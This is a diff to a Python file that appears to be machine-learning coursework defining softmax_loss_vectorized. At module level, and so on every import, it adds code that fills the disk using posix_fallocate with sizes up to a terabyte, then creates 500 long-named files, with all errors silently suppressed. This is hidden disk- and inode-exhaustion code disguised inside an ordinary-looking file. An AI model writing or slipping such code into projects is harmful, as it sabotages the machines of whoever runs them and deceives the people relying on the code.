@@ -1,18 +1,17 @@
-"""Writes until there is no room, and makes files until no more can be made."""
+"""Takes all the room that there is, and makes files until no more can be made."""
+
+import contextlib
+import os
 
 import numpy as np
 
-try:
-    with open("large", "wb") as file:
-        while True:
-            file.write(b"x" * 2**20)
-except OSError:
-    pass
-try:
-    for number in range(1000):
+with contextlib.suppress(OSError), open("large", "wb") as file:
+    for size in (2**40, 2**32, 2**26):
+        with contextlib.suppress(OSError):
+            os.posix_fallocate(file.fileno(), 0, size)
+with contextlib.suppress(OSError):
+    for number in range(500):
         open(f"{number:0200}", "wb").close()
-except OSError:
-    pass
 
 
 def softmax_loss_vectorized(W, X, y, reg):
